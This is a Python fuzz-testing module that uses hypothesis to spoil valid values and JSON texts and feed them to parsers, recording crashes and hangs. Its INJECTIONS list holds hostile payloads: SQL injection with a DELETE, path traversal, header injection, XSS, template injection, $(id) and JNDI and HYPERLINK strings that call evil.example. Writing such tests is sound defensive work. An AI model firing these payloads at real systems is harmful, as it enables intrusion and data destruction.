"""Hostile values, and what feeds them to one parser after the other: made up by hypothesis from a seed.

A value is mostly a good one that was spoilt in a few places: what is wrong everywhere is refused at the door. What
comes out of a parser is right, one of its designed errors, or found here, with the smallest input that showed it.
"""

from __future__ import annotations

import copy
import json
import re
import signal
import threading
import traceback
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

CPU_SECONDS, CPU_SECONDS_A_MEGABYTE = 10.0, 5.0
"""How much processor time one input may take, by its size: more is a hang. Wall time would judge the machine."""

SHOWN = 1500
"""Characters of a failing input that are printed."""


class Hang(BaseException):
    """One input took more processor time than its size explains."""


@dataclass(frozen=True)
class Attack:
    """One parser under fire. feed: takes an input; raises AssertionError where what came of it is not as promised.
    designed: the errors it may raise. share: how many of a hundred inputs go to it.
    """

    name: str
    inputs: st.SearchStrategy[Any]
    feed: Callable[[Any], object]
    designed: tuple[type[BaseException], ...]
    share: float


@dataclass
class Outcome:
    """What an attack brought to light. undesigned: by place, the error and the smallest input that led there."""

    name: str
    inputs: int = 0
    refused: int = 0
    undesigned: dict[str, tuple[str, Any]] = field(default_factory=dict)
    hangs: list[Any] = field(default_factory=list)

    def told(self, replay: str) -> Iterator[str]:
        for place, (error, value) in self.undesigned.items():
            yield f"  {self.name}: {error}\n    at {place}\n    input: {shown(value)}\n    replay: {replay}"
        for value in self.hangs:
            yield f"  {self.name}: hangs\n    input: {shown(value)}\n    replay: {replay}"


def run(attack: Attack, count: int, seed_: int) -> Outcome:
    """Feed so many inputs, the same ones for the same seed."""
    outcome = Outcome(attack.name)

    # One failure must not hide the others: each is noted, and the smallest input of each place kept.
    @seed(seed_)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        derandomize=False,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(attack.inputs)
    def one(value: Any) -> None:
        outcome.inputs += 1
        kept = copy.deepcopy(value)
        try:
            with allowance(value):
                attack.feed(value)
        except attack.designed:
            outcome.refused += 1
        except Hang:
            outcome.hangs.append(kept)
        except Exception as error:
            place = _place(error)
            before = outcome.undesigned.get(place)
            if before is None or size_of(kept) < size_of(before[1]):
                said = "".join(traceback.format_exception_only(error)).strip()
                outcome.undesigned[place] = (said[:SHOWN], kept)

    one()
    return outcome


@contextmanager
def allowance(value: Any) -> Iterator[None]:
    """As much processor time as the input's size explains; Hang after that. Only the main thread can be stopped."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return

    def stop(*_: object) -> None:
        raise Hang

    before = signal.signal(signal.SIGVTALRM, stop)
    signal.setitimer(signal.ITIMER_VIRTUAL, CPU_SECONDS + CPU_SECONDS_A_MEGABYTE * size_of(value) / 1e6)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_VIRTUAL, 0)
        signal.signal(signal.SIGVTALRM, before)


def _place(error: BaseException) -> str:
    """Where an error came from: the innermost line of the product's, and the innermost of all."""
    frames = traceback.extract_tb(error.__traceback__)
    ours = [frame for frame in frames if "/layers/" in frame.filename or "/functions/" in frame.filename]
    chosen = [(ours or frames)[-1], frames[-1]]
    told = dict.fromkeys(f"{'/'.join(frame.filename.split('/')[-2:])}:{frame.lineno} {frame.name}" for frame in chosen)
    return f"{type(error).__name__} in {' <- '.join(told)}"


def size_of(value: Any) -> int:
    """About as many bytes as it has; without recursion, which an input may be after."""
    size, waiting = 0, [value]
    while waiting:
        one = waiting.pop()
        if isinstance(one, str | bytes):
            size += len(one)
        elif isinstance(one, dict):
            waiting += [*one, *one.values()]
        elif isinstance(one, list | tuple):
            waiting += one
        size += 8
    return size


def shown(value: Any) -> str:
    """An input as it can be printed and typed in again; of a long one its beginning."""
    try:
        text = ascii(value)
    except RecursionError:
        return f"{size_of(value)} bytes, nested too deep to print"
    return text if len(text) <= SHOWN else f"{text[:SHOWN]} ... ({len(text)} characters)"


# Values

INJECTIONS = (
    "' OR Id != '",
    "\\' OR Name LIKE '%",
    "x') OR (Id != NULL",
    "'; DELETE FROM Account; --",
    "{ids}",
    "{0.__class__}",
    "../../plans",
    "..%2f..%2fplans",
    "%2e%2e/%2e%2e/plans",
    "..",
    "a/../../customers",
    "x?customerId=other&limit=1",
    "x#fragment",
    "x;y=z",
    "//evil.example/x",
    "http://evil.example/",
    "\r\nX-Evil: 1",
    "x\ty",
    '=HYPERLINK("http://evil.example")',
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example/x}",
    "$(id)",
    "%s%n%p",
)
"""What would ask for something else where it is not taken for a mere text."""

DATES = (
    "2026-02-30",
    "0001-01-01",
    "9999-12-31",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-W01-1",
    "20260101",
    "2026-01-01T00:00:00.1234567890123Z",
    "2026-01-01T24:00:00Z",
    "2026-01-01T00:00:60Z",
    "2026-01-01T00:00:00+99:99",
    "2026-01-01T00:00:00 [Europe/Berlin]",
)
"""Dates and times at the ends of the calendar, and what only looks like one."""

TEXTS = (
    *DATES,
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\ufeff",
    "\u202e desrever",
    "e\u0301",
    "\u00e9",
    "\ufb01\u2126\u212b",
    "a" + "\u0300" * 300,
    "\U0001f984",
    "\U0010ffff",
    "\u2028\u2029\x85",
    "\x1b[31m",
    "0065g00000ABCdEAAX",
    "\u0660\u0661\u0662",
    "NaN",
    "1e400",
    "true",
    "null",
    "x" * 256,
    "x" * 70_000,
    "\u6f22" * 200_000,
    "@" * 20_000,
    "a@" * 20_000,
    " " * 50_000,
)
LONG = ("x" * 255, "x" * 256, "x" * 70_000, "\u6f22" * 200_000, "\U0001f984" * 120, "." * 255, "..", ".")
"""Texts of and beyond the length that something holds."""

NUMBERS: tuple[Any, ...] = (
    0,
    -0.0,
    0.1,
    -1,
    1.5,
    True,
    2**31,
    2**53 + 1,
    2**63,
    -(2**63) - 1,
    10**30,
    10**38,
    10**39,
    10**308,
    10**309,
    -(10**4000),
    float("nan"),
    float("inf"),
    float("-inf"),
    1e308,
    5e-324,
    1e16,
    253402300800000,
    -62135596800001,
)


def nested(depth: int, inner: Any = None, key: str | None = None) -> Any:
    """Lists in lists, or objects in objects."""
    value = inner
    for _ in range(depth):
        value = [value] if key is None else {key: value}
    return value


any_text = (
    st.sampled_from(TEXTS)
    | st.sampled_from(INJECTIONS)
    | st.text(st.characters(exclude_categories=()), max_size=40)
    | st.text(max_size=12)
)
any_number = st.sampled_from(NUMBERS) | st.integers() | st.floats()
any_scalar = st.none() | st.booleans() | any_number | any_text
any_value = (
    any_scalar
    | st.recursive(
        any_scalar,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(any_text, inner, max_size=4),
        max_leaves=8,
    )
    | st.sampled_from([nested(60), nested(60, key="deals"), nested(200), [], {}, [[]], [{}]])
)


@st.composite
def spoilt(draw: st.DrawFn, good: st.SearchStrategy[Any], values: st.SearchStrategy[Any] = any_value) -> Any:
    """A good value, wrong in one to three places; one time in eight as it is."""
    data = copy.deepcopy(draw(good))
    for _ in range(draw(st.sampled_from([0, 1, 1, 1, 1, 2, 2, 3]))):
        data = _spoil(draw, data, values)
    return data


def _spoil(draw: st.DrawFn, data: Any, values: st.SearchStrategy[Any]) -> Any:
    places = list(_places(data))
    if not places:
        return copy.deepcopy(draw(values))
    parent, key = places[draw(st.integers(0, len(places) - 1))]
    ways = ("put", "put", "alike", "alike", "alike", "scalar", "scalar", "take", "rename", "wrap", "repeat")
    how = draw(st.sampled_from(ways))
    if how == "put":
        parent[key] = copy.deepcopy(draw(values))  # what is drawn may be shared, and is spoilt itself next
    elif how == "alike":  # of its own kind, and beyond what anybody means by it
        parent[key] = draw(_alike(parent[key]))
    elif how == "scalar":
        parent[key] = draw(any_scalar)
    elif how == "wrap":
        parent[key] = [parent[key]]
    elif how == "repeat" and isinstance(parent, list):
        parent.extend(copy.deepcopy(parent[key]) for _ in range(draw(st.sampled_from((1, 2, 210)))))
    elif how == "rename" and isinstance(parent, dict):
        parent[draw(any_text)] = parent.pop(key)
    else:
        del parent[key]
    return data


def _alike(value: Any) -> st.SearchStrategy[Any]:
    if isinstance(value, str):
        return st.sampled_from(DATES if re.match(r"\d{4}-", value) else LONG + INJECTIONS)
    return any_number if isinstance(value, int | float) and not isinstance(value, bool) else any_scalar


def _places(data: Any) -> Iterator[tuple[Any, Any]]:
    """Every place in a value, without recursion."""
    waiting = [data]
    while waiting:
        one = waiting.pop()
        inner: Sequence[tuple[Any, Any]] = ()
        if isinstance(one, dict):
            inner = list(one.items())
        elif isinstance(one, list):
            inner = list(enumerate(one))
        for key, value in inner:
            yield one, key
            if isinstance(value, dict | list):
                waiting.append(value)


@st.composite
def json_texts(draw: st.DrawFn, values: st.SearchStrategy[Any]) -> str:
    """A value as JSON text; sometimes as text that is hardly JSON."""
    value = draw(values)
    try:
        text = json.dumps(value, ensure_ascii=draw(st.booleans()))
    except (ValueError, RecursionError):
        text = '{"deals": ' + "[" * 3000
    match draw(st.sampled_from(("as it is",) * 10 + ("cut", "twice", "digits", "exponent", "deep", "mark", "tail"))):
        case "cut":
            return text[: draw(st.integers(0, len(text)))]
        case "twice" if text.startswith("{") and len(text) > 2:
            return f"{text[:-1]}, {text[1:]}"
        case "digits":
            return text.replace("1", "1" * draw(st.sampled_from((310, 4_300, 4_301, 100_000))), 1)
        case "exponent":
            return text.replace(
                "1", draw(st.sampled_from(("1e400", "-1E-400", "1e99999999", "-0", "Infinity", "NaN"))), 1
            )
        case "deep":
            depth = draw(st.sampled_from((500, 990, 1_100, 100_000)))
            return text.replace("1", "[" * depth + "]" * depth, 1)
        case "mark":
            return "\ufeff" + text
        case "tail":
            return text + draw(any_text)
    return text
